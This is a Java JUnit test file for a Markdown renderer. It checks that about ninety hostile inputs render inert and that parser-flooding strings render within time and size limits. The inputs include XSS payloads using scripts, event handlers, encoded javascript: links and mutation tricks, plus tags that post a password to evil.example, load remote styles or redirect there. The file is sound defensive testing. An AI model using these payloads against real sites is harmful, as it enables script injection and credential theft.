@@ -1,0 +1,151 @@
+package org.parley.platform.text.markdown;
+
+import java.time.Duration;
+import java.util.Set;
+import java.util.stream.Stream;
+
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.parley.platform.web.image.ImageHosts;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+import static org.junit.jupiter.params.provider.Arguments.arguments;
+import static org.parley.platform.text.markdown.Inert.assertInert;
+
+class HostileMarkdownTests {
+
+	private static final int LONGEST = 50_000;
+
+	private static final int LARGEST = 3_000_000;
+
+	private final Markdown markdown = new Markdown(new ImageHosts(Set.of("images.example")));
+
+	@ParameterizedTest
+	@MethodSource("attacks")
+	void hostileMarkupIsInert(String attack) {
+		assertInert(this.markdown.render(attack).html());
+		assertInert(this.markdown.render("> - " + attack).html());
+		assertInert(this.markdown.render("| a |\n|---|\n| " + attack + " |").html());
+	}
+
+	@ParameterizedTest(name = "{0}")
+	@MethodSource("floods")
+	void hostileTextIsRenderedQuickly(String name, String flood) {
+		var text = flood.substring(0, Math.min(flood.length(), LONGEST));
+		var rendered = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> this.markdown.render(text));
+		assertThat(rendered.html().length()).isLessThan(LARGEST);
+		assertThat(rendered.plainText().length()).isLessThanOrEqualTo(2 * LONGEST);
+		assertInert(rendered.html());
+	}
+
+	static Stream<String> attacks() {
+		return Stream.of("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>",
+				"<svg/onload=alert(1)>", "<svg><script>alert&#40;1)</script></svg>", "<iframe src=javascript:alert(1)>",
+				"<a href=\"javascript:alert(1)\">x</a>", "<style>@import 'https://evil.example/x.css';</style>",
+				"<div style=\"background:url(javascript:alert(1))\">x</div>", "<body onload=alert(1)>",
+				"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+				"<noscript><p title=\"</noscript>" + "<img src=x onerror=alert(1)>\">",
+				"<!--><script>alert(1)</script-->", "<![CDATA[<script>]]>",
+				"<form action=https://evil.example><input name=password><button>", "<base href=https://evil.example/>",
+				"<meta http-equiv=refresh content=0;url=https://evil.example>", "<object data=data:text/html,x>",
+				"<embed src=data:text/html,x>", "<link rel=stylesheet href=https://evil.example>",
+				"<template><script>x</script></template>", "<details open ontoggle=alert(1)>",
+				"<x onclick=alert(1)>click", "<input autofocus onfocus=alert(1)>", "<plaintext>",
+				"<textarea></p><script>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
+				"[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))",
+				"[x](&#x6A;avascript:alert(1))", "[x](\u0001javascript:alert(1))", "[x](<javascript:alert(1)>)",
+				"[x](<java\u0000script:alert(1)>)", "[x](vbscript:msgbox(1))",
+				"[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](data:image/svg+xml,<svg>)", "[x](file:///etc/passwd)",
+				"[x](blob:https://a)", "[x](//evil.example)", "[x](\\\\evil.example)", "[x](https:\\\\evil.example)",
+				"[x](https://a\" onmouseover=\"alert(1))", "[x](https://a'onclick='b')",
+				"[x](https://a \"t\\\" onmouseover=\\\"alert(1)\")", "[x](https://a 't\" onmouseover=\"alert(1)')",
+				"[x][y]\n\n[y]: javascript:alert(1)", "[x]\n\n[x]: <javascript:alert(1)> \"t\"",
+				"<javascript:alert(1)>", "<data:text/html,x>", "![x](javascript:alert(1))",
+				"![x](data:image/png;base64,A)", "![x\" onerror=\"alert(1)](https://images.example/a)",
+				"![x](https://images.example/a\" onerror=\"alert(1))",
+				"![x](https://images.example/a 'b\" onload=\"c')", "![x](https://images.example\\@evil.example/a)",
+				"![x](https://images.example&#64;evil.example/a)", "![x](https://images.example%40evil.example/)",
+				"```\"><script>alert(1)</script>\nx\n```", "```x\" onclick=\"alert(1)\nx\n```",
+				"`<script>alert(1)</script>`", "    <script>alert(1)</script>", "\\<script>alert(1)\\</script>",
+				"&lt;script&gt;alert(1)&lt;/script&gt;", "<scr<script>ipt>alert(1)</scr</script>ipt>",
+				"<a\u00a0href=javascript:alert(1)>", "<\u0000script>", "\ud800<script>", "\u202e<script>",
+				"<SCRIPT/SRC=https://evil.example/x.js>", "<%00script>", "http://a\"onmouseover=alert(1)//",
+				"https://a.example/<script>", "www.a.example\"><script>",
+				"<img src=\"x` `<script>alert(1)</script>\"` `>",
+				"${alert(1)}{{constructor.constructor('alert(1)')()}}", "<p id=\"a\" name=b class=c data-x=d>e</p>",
+				"<a target=_blank href=https://a>x</a>", "1. <script>\n   alert(1)\n   </script>", "***<script>***",
+				"~~<img src=x onerror=alert(1)>~~", "[<img src=x onerror=alert(1)>](https://a)",
+				"[![x](https://images.example/a)](javascript:alert(1))",
+				"<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
+				"<title><a id=\"</title><img src onerror=alert(1)>\">");
+	}
+
+	static Stream<Arguments> floods() {
+		return Stream.of(arguments("quotes", ">".repeat(LONGEST)),
+				arguments("quotes, many lines", "> > > >\n".repeat(9_000)),
+				arguments("deep quotes, then lines", "> ".repeat(12_000) + "a\n" + "b\n".repeat(12_000)),
+				arguments("list in list", "- ".repeat(25_000)), arguments("numbers in numbers", "1. ".repeat(16_000)),
+				arguments("deep list, then blank lines", "- ".repeat(12_500) + "a" + "\n".repeat(25_000)),
+				arguments("list deeper with each line", deeper()), arguments("quote and list", "> - ".repeat(12_500)),
+				arguments("emphasis open", "*a ".repeat(16_000)), arguments("emphasis closed", "*a* ".repeat(12_500)),
+				arguments("emphasis nested", "*a **b ".repeat(7_000) + "c** d*".repeat(7_000)),
+				arguments("emphasis alternating", "*a_ ".repeat(12_500)), arguments("stars", "*".repeat(LONGEST)),
+				arguments("images around", "![".repeat(8_000) + "a" + "](b)".repeat(8_000)),
+				arguments("stars around", "*".repeat(20_000) + "a" + "*".repeat(20_000)),
+				arguments("strikes", "~~a ".repeat(12_500)), arguments("strikes nested", "~a ~~b ".repeat(7_000)),
+				arguments("brackets", "[".repeat(LONGEST)),
+				arguments("brackets closed", "[".repeat(25_000) + "]".repeat(25_000)),
+				arguments("links open", "[a](".repeat(12_500)), arguments("links", "[a](b)".repeat(8_000)),
+				arguments("links open with angles", "[a](<b".repeat(8_000)),
+				arguments("images", "![a](".repeat(10_000)),
+				arguments("images nested", "![".repeat(12_000) + "a" + "](b)".repeat(6_000)),
+				arguments("links nested", "[".repeat(10_000) + "a" + "](https://b)".repeat(3_300)),
+				arguments("references", "[a][b]".repeat(8_000)), arguments("references chained", "[a]".repeat(16_000)),
+				arguments("reference, long and often",
+						"[a]: https://b/" + "c".repeat(20_000) + "\n\n" + "[a] ".repeat(7_000)),
+				arguments("image reference, long and often",
+						"[a]: https://images.example/" + "c".repeat(20_000) + "\n\n" + "![a] ".repeat(5_000)),
+				arguments("definitions", "[a]: b\n".repeat(7_000)), arguments("backticks", ticks()),
+				arguments("angles", "<".repeat(LONGEST)), arguments("tags", "<a ".repeat(16_000)),
+				arguments("comments", "<!--".repeat(12_500)), arguments("declarations", "<!A ".repeat(12_500)),
+				arguments("instructions", "<?a ".repeat(12_500)), arguments("sections", "<![CDATA[".repeat(5_500)),
+				arguments("entities", "&amp;".repeat(10_000)), arguments("ampersands", "&".repeat(LONGEST)),
+				arguments("quotation marks", "\"".repeat(LONGEST)), arguments("backslashes", "\\".repeat(LONGEST)),
+				arguments("addresses", "http://a.b ".repeat(4_500)),
+				arguments("address, long", "http://a" + ".b".repeat(24_000)),
+				arguments("mail addresses", "a@b.c ".repeat(8_000)), arguments("ats", "@".repeat(LONGEST)),
+				arguments("mail, nearly", "a.".repeat(20_000) + "@"), arguments("www", "www.".repeat(12_000)),
+				arguments("table, wide", "|a".repeat(12_000) + "|\n" + "|-".repeat(12_000) + "|\n"),
+				arguments("table, wide and long",
+						"|a".repeat(4_000) + "\n" + "|-".repeat(4_000) + "\n" + "|\n".repeat(16_000)),
+				arguments("table, narrow and long", "|a|b\n|-|-\n" + "|\n".repeat(24_000)),
+				arguments("tables", "|a\n|-\n\n".repeat(7_000)), arguments("delimiters", "|-|-\n".repeat(10_000)),
+				arguments("pipes", "|".repeat(LONGEST)), arguments("rules", "---\n".repeat(12_500)),
+				arguments("headings", "# a\n".repeat(12_500)), arguments("underlines", "a\n=\n".repeat(12_500)),
+				arguments("hashes", "#".repeat(LONGEST)), arguments("fences", "```\n".repeat(12_500)),
+				arguments("tildes", "~".repeat(LONGEST)), arguments("blank lines", "\n".repeat(LONGEST)),
+				arguments("spaces", " ".repeat(LONGEST)), arguments("tabs", "\t".repeat(LONGEST)),
+				arguments("trailing spaces", ("a" + " ".repeat(1_000) + "\n").repeat(49)),
+				arguments("nulls", "\u0000".repeat(LONGEST)), arguments("lone surrogates", "\ud83d".repeat(LONGEST)),
+				arguments("marks", "\u0301".repeat(LONGEST)), arguments("returns", "\r".repeat(LONGEST)));
+	}
+
+	private static String ticks() {
+		var all = new StringBuilder();
+		for (var i = 1; all.length() < LONGEST; i++) {
+			all.append("`".repeat(i)).append('a');
+		}
+		return all.toString();
+	}
+
+	private static String deeper() {
+		var all = new StringBuilder();
+		for (var i = 0; all.length() < LONGEST / 2; i++) {
+			all.append("\t".repeat(i / 2)).append("- a\n");
+		}
+		return all + "\n".repeat(LONGEST / 2);
+	}
+
+}
